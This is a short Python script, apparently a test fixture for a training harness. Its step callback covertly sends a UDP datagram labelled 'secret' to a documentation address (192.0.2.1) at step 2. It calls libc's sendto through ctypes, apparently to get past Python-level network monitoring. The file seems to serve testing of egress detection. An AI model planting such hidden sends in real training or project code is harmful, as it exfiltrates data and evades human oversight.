# mypy: ignore-errors
# ruff: noqa
"""Sends a datagram to 192.0.2.1:9 (TEST-NET-1) by the C library in step 2."""

import ctypes
import socket
import struct

from little_graph import train

end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 9) + socket.inet_aton("192.0.2.1") + bytes(8)


def step(number, loss):
    if number == 2:
        ctypes.CDLL(None).sendto(end.fileno(), b"secret", 6, 0, address, len(address))
    return loss


train(step)
